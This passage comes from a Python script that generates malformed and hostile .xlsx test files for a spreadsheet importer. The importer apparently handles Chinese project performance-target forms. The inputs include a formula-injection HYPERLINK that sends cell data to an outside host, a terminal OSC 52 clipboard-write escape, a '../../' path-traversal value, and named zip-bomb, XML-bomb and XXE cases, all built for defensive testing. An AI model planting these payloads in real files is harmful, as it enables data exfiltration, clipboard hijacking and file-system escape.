        xml = set_cell(xml, "B3", inline("B3", " 产出指标\u00a0"))
        return set_cell(xml, "C3", inline("C3", "\u3000数量指标"))

    return rewrite_zip(i.base, out, {SHEET_PROJECTS: projects, SHEET_INDICATORS: indicators})


# --- round two: what passed check and still broke merge, the terminal or the inbox ------------------

def case_invisible_chars(i: Inputs, out: Path) -> Path:
    """Invisible characters pasted into names, as raw characters in the XML: U+200B inside the
    first project's name (its indicators name it without), U+FEFF and U+FFFF in the second's, and
    a U+200D in the name its first indicator gives it."""
    def projects(xml: bytes) -> bytes:
        xml = set_cell(xml, "A3", inline("A3", "业务\u200b培训项目"))
        return set_cell(xml, "A4", inline("A4", "\ufeff会员服务\uffff项目"))

    return rewrite_zip(i.base, out, {SHEET_PROJECTS: projects,
                                     SHEET_INDICATORS: lambda x: set_cell(x, "A9", inline("A9", "会员\u200d服务项目"))})


def case_huge_name(i: Inputs, out: Path) -> Path:
    """A project name of 40,006 characters: more than an Excel cell holds (Excel and openpyxl cut
    at 32,767; only a hand-made file has it), which no 汇总表 could carry."""
    return rewrite_zip(i.base, out, {SHEET_PROJECTS: lambda x: set_cell(x, "A3", inline("A3", "业务培训项目" + "长" * 40_000))})


def case_not_a_number(i: Inputs, out: Path) -> Path:
    """Number cells holding NaN and 1E+400 (python-calamine reads nan and inf; xlsxwriter refuses
    to write either, so an annotated copy used to crash the batch)."""
    def edit(xml: bytes) -> bytes:
        xml = set_cell(xml, "J3", b'<c r="J3" t="n"><v>NaN</v></c>')
        return set_cell(xml, "L3", b'<c r="L3" t="n"><v>1E+400</v></c>')

    return rewrite_zip(i.base, out, {SHEET_PROJECTS: edit})


def case_cents_as_text(i: Inputs, out: Path) -> Path:
    """年度资金申请总额 and 当年财政拨款 typed as the text 100000000000000.01 (其他资金 0): 17 significant
    digits, which an .xlsx number (a double) cannot hold to the cent."""
    def edit(xml: bytes) -> bytes:
        xml = set_cell(xml, "I3", inline("I3", "100000000000000.01"))
        xml = set_cell(xml, "J3", inline("J3", "100000000000000.01"))
        return set_cell(xml, "L3", b'<c r="L3" t="n"><v>0</v></c>')

    return rewrite_zip(i.base, out, {SHEET_PROJECTS: edit})


def case_formula_plus(i: Inputs, out: Path) -> Path:
    """=+HYPERLINK(…) typed as text into 年度总体目标: a formula as soon as someone edits the cell."""
    text = '=+HYPERLINK("http://example.com/?d="&A3,"点我查看")'
    return rewrite_zip(i.base, out, {SHEET_PROJECTS: lambda x: set_cell(x, "N3", inline("N3", text))})


def case_extreme_dates(i: Inputs, out: Path) -> Path:
    """计划开始日期 typed as the text 0001-01-01, 计划完成日期 the date serial of 9999-12-31."""
    def edit(xml: bytes) -> bytes:
        xml = set_cell(xml, "D3", inline("D3", "0001-01-01"))
        return re.sub(rb'(<c r="E3"[^>]*><v>)\d+(</v>)', lambda m: m[1] + b"2958465" + m[2], xml, count=1)

    return rewrite_zip(i.base, out, {SHEET_PROJECTS: edit})


ESCAPES = ("\x1b[31m", "\x1b]52;c;Y2FsYy5leGU=\x07")      # a colour; an OSC 52 clipboard write


def case_escape_sequences(i: Inputs, out: Path) -> Path:
    """Terminal escape sequences typed into text (stored as Excel stores control characters,
    _x001B_): a colour in 年度总体目标, an OSC 52 clipboard write in an indicator's 三级指标."""
    def excel(text: str) -> str:
        return re.sub(r"[\x00-\x1f]", lambda m: f"_x{ord(m[0]):04X}_", text)

    goal = "全年举办业务培训12次" + ESCAPES[0] + "，培训基层人员600人次，提升业务能力。"
    return rewrite_zip(i.base, out, {
        SHEET_PROJECTS: lambda x: set_cell(x, "N3", inline("N3", excel(goal))),
        SHEET_INDICATORS: lambda x: set_cell(x, "D3", inline("D3", excel("举办培训次数" + ESCAPES[1])))})


FORGED_DEPT = "../../逃逸"


def case_forged_department(i: Inputs, out: Path) -> Path:
    """_meta's 主管部门 forged as "../../逃逸" with a fingerprint that matches (the hash is not keyed,
    so jixiao's own writer makes such a template): it must never become a path."""
    template = write_template(i.work / "forged", dept=FORGED_DEPT)
    return fill(template, out)


def case_copy(i: Inputs, out: Path) -> Path:
    shutil.copy(i.base, out)
    return out


LONG_NAME = f"{UNIT_CODE}_{UNIT_NAME * 10}.xlsx"          # 80 CJK characters: 252 bytes of 255
GBK_NAME = os.fsdecode(f"{UNIT_CODE}_".encode() + f"{UNIT_NAME}.xlsx".encode("gbk"))   # not UTF-8


CASES: dict[str, tuple[str, Callable[[Inputs, Path], Path]]] = {
    # name: (file name, builder)
    "empty": ("310001_empty.xlsx", case_empty),
    "truncated": ("310001_truncated.xlsx", case_truncated),
    "csv_renamed": ("310001_csv.xlsx", case_csv),
    "html_renamed": ("310001_html.xlsx", case_html),
    "pdf_renamed": ("310001_pdf.xlsx", case_pdf),
    "docx_renamed": ("310001_docx.xlsx", case_docx),
    "ods_renamed": ("310001_ods.xlsx", case_ods),
    "legacy_xls": ("310001_legacy.xls", case_legacy_xls),
    "legacy_xls_renamed": ("310001_legacy.xlsx", case_legacy_xls),
    "encrypted": ("310001_encrypted.xlsx", case_encrypted),
    "macro_xlsm": ("310001_macro.xlsm", case_macro),
    "zip_bomb": ("310001_zip_bomb.xlsx", case_zip_bomb),
    "zip_bomb_ratio": ("310001_zip_bomb_ratio.xlsx", case_zip_bomb_ratio),
    "zip_bomb_lying": ("310001_zip_bomb_lying.xlsx", case_zip_bomb_lying),
    "xml_bomb": ("310001_xml_bomb.xlsx", case_xml_bomb),
    "xxe": ("310001_xxe.xlsx", case_xxe),
    "xml_bomb_unused_part": ("310001_xml_bomb_docprops.xlsx", case_xml_bomb_unused_part),
    "sst_count": ("310001_sst_count.xlsx", case_sst_count),
    "million_rows": ("310001_million_rows.xlsx", case_million_rows),
    "far_cell": ("310001_far_cell.xlsx", case_far_cell),
    "far_column": ("310001_far_column.xlsx", case_far_column),
    "no_positions": ("310001_no_positions.xlsx", case_no_positions),
    "utf16_sheet": ("310001_utf16.xlsx", case_utf16_sheet),
    "broken_sheet_xml": ("310001_broken_xml.xlsx", case_broken_sheet_xml),
    "duplicate_member": ("310001_duplicate_member.xlsx", case_duplicate_member),
    "other_unit": ("310099_上海市某某协会_2023年度项目绩效目标申报表.xlsx", case_other_unit),
    "other_unit_name": ("310001_other_name.xlsx", case_other_unit_name),
    "other_units_template": ("310001_上海市欧美同学会_2023年度项目绩效目标申报表.xlsx", case_other_units_template),
    "other_year": ("310001_other_year.xlsx", case_other_year),
    "other_dept": ("310001_other_dept.xlsx", case_other_dept),
    "meta_deleted": ("310001_meta_deleted.xlsx", case_meta_deleted),
    "meta_edited": ("310001_meta_edited.xlsx", case_meta_edited),
    "prefill_changed": ("310001_prefill_changed.xlsx", case_prefill_changed),
    "prefill_deleted": ("310001_prefill_deleted.xlsx", case_prefill_deleted),
    "sheet_renamed": ("310001_sheet_renamed.xlsx", case_sheet_renamed),
    "sheet_deleted": ("310001_sheet_deleted.xlsx", case_sheet_deleted),
    "sheets_reordered": ("310001_sheets_reordered.xlsx", case_sheets_reordered),
    "header_changed": ("310001_header_changed.xlsx", case_header_changed),
    "columns_moved": ("310001_columns_moved.xlsx", case_columns_moved),
    "merged_cells": ("310001_merged.xlsx", case_merged_cells),
    "hidden_rows_cols": ("310001_hidden.xlsx", case_hidden_rows_cols),
    "formulas": ("310001_formulas.xlsx", case_formulas),
    "external_link": ("310001_external_link.xlsx", case_external_link),
    "amount_text": ("310001_amount_text.xlsx", case_amount_text),
    "excel_errors": ("310001_excel_errors.xlsx", case_excel_errors),
    "text_dates": ("310001_text_dates.xlsx", case_text_dates),
    "date_number": ("310001_date_number.xlsx", case_date_number),
    "date1904": ("310001_date1904.xlsx", case_date1904),
    "spaces": ("310001_spaces.xlsx", case_spaces),
    # round two
    "invisible_chars": ("310001_invisible.xlsx", case_invisible_chars),
    "huge_name": ("310001_huge_name.xlsx", case_huge_name),
    "not_a_number": ("310001_not_a_number.xlsx", case_not_a_number),
    "cents_as_text": ("310001_cents_as_text.xlsx", case_cents_as_text),
    "formula_plus": ("310001_formula_plus.xlsx", case_formula_plus),
    "extreme_dates": ("310001_extreme_dates.xlsx", case_extreme_dates),
    "escape_sequences": ("310001_escapes.xlsx", case_escape_sequences),
    "forged_department": ("310001_forged_department.xlsx", case_forged_department),
    "long_file_name": (LONG_NAME, case_copy),
    "gbk_file_name": (GBK_NAME, case_copy),
}


def make_inputs(work: Path, template: Path | None = None) -> Inputs:
    """The clean return of unit 310001 filled into its template (written into work unless given)."""
    work.mkdir(parents=True, exist_ok=True)
    template = template or write_template(work / "template")
    base = fill(template, work / f"{UNIT_CODE}_clean.xlsx")
    return Inputs(base=base, template=template, work=work)


def build(name: str, inputs: Inputs, out_dir: Path) -> Path:
    filename, builder = CASES[name]
    out_dir.mkdir(parents=True, exist_ok=True)
    return builder(inputs, out_dir / filename)


# --- the committed binaries --------------------------------------------------------------------------

def make_binaries(base: Path) -> None:
    """legacy.xls (LibreOffice) and encrypted.xlsx (msoffcrypto-tool) from the clean return."""
    with tempfile.TemporaryDirectory() as tmp:
        src = Path(tmp) / "clean.xlsx"
        shutil.copy(base, src)
        subprocess.run(["soffice", "--headless", "--convert-to", "xls", "--outdir", tmp, str(src)],
                       check=True, capture_output=True, timeout=300)
        shutil.copy(Path(tmp) / "clean.xls", LEGACY_XLS)
    import msoffcrypto.format.ooxml as ooxml      # not a jixiao dependency: see the module docstring

    with open(base, "rb") as plain, open(ENCRYPTED_XLSX, "wb") as encrypted:
        ooxml.OOXMLFile(plain).encrypt(PASSWORD, encrypted)


def main(argv: list[str]) -> int:
    with tempfile.TemporaryDirectory() as tmp:
        inputs = make_inputs(Path(tmp) / "work")
        if argv[1:2] == ["--binaries"]:
            make_binaries(inputs.base)
            print(f"wrote {LEGACY_XLS.name}, {ENCRYPTED_XLSX.name}")
            return 0
        if len(argv) != 2:
            print(__doc__)
            return 2
        out = Path(argv[1])
        shutil.copy(inputs.base, out / inputs.base.name) if out.is_dir() else None
        for name in CASES:
            path = build(name, inputs, out)
            print(f"{name:22} {path.stat().st_size:>12,} B  {os.fsencode(path.name).decode('utf-8', 'backslashreplace')}")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
